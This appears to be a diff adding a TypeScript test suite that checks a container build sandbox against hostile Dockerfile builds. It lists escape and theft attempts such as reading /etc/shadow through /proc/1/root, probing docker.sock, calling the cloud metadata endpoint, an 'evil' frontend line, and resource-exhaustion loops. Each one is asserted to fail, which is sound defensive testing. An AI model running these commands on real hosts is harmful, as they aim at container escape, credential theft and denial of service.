@@ -1,0 +1,60 @@
+/** Hostile builds on the real engine: a build reaches no more than any pod, and ends at its limits. */
+import assert from 'node:assert/strict';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { describe, test } from 'node:test';
+import { BuildFault } from '../../src/builds/build-fault.ts';
+import { base, contextOf, noBuild, setBuildStage } from '../builds/build-stage.ts';
+
+describe('a hostile build', () => {
+  const startBuilder = setBuildStage();
+
+  test('reaches no device, no file and no service of the host', async () => {
+    const { build, output } = await startBuilder();
+    let requests = 0;
+    const server = createServer((_, response) => {
+      requests += 1;
+      response.end('secret');
+    });
+    await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
+    const { port } = server.address() as AddressInfo;
+    try {
+      const attempts = [
+        'mknod /disk b 7 0',
+        'mount -t tmpfs none /mnt && mount -o remount,bind,suid /proc',
+        'ls /var/run/docker.sock',
+        'cat /proc/1/root/etc/shadow',
+        'cat /sys/kernel/debug/tracing/trace',
+        'echo 1 > /proc/sys/kernel/panic',
+        'insmod /x.ko',
+        `wget -q -T 2 -O - http://127.0.0.1:${port}/`,
+        `wget -q -T 2 -O - http://$(ip route | sed -n 's/default via \\([0-9.]*\\).*/\\1/p'):${port}/`,
+        'wget -q -T 2 -O - http://169.254.169.254/latest/meta-data/',
+      ];
+      const lines = ['# syntax=127.0.0.1:1/evil/frontend:1', `FROM ${base}`];
+      for (const [at, attempt] of attempts.entries())
+        lines.push(`RUN if ${attempt}; then echo "reached ${at}"; fi 2>&1`);
+      await build({ build: noBuild, context: contextOf({ Dockerfile: lines.join('\n') }) });
+      assert.doesNotMatch(output(), /^reached \d/m);
+      const adding = contextOf({ Dockerfile: `FROM ${base}\nADD http://127.0.0.1:${port}/ /got` });
+      await assert.rejects(build({ build: noBuild, context: adding }), BuildFault);
+      assert.equal(requests, 0);
+    } finally {
+      server.close();
+    }
+  });
+
+  test('ends at its memory, its processes and its disk', async () => {
+    const { build, output } = await startBuilder({ volumeBytes: 2 ** 30 });
+    const attempts: [string, RegExp][] = [
+      ['node -e "const kept = []; for (;;) kept.push(Buffer.alloc(2 ** 26, 1))"', /exited on killed/],
+      ['for i in $(seq 1000); do sleep 60 & done', /can't fork|Cannot fork|Resource temporarily unavailable/i],
+      ['head -c 3000000000 /dev/zero > /filled', /no space left/i],
+    ];
+    for (const [attempt, words] of attempts) {
+      const context = contextOf({ Dockerfile: `FROM ${base}\nRUN ${attempt}` });
+      await assert.rejects(build({ build: noBuild, context }), BuildFault, attempt);
+      assert.match(output(), words);
+    }
+  });
+});
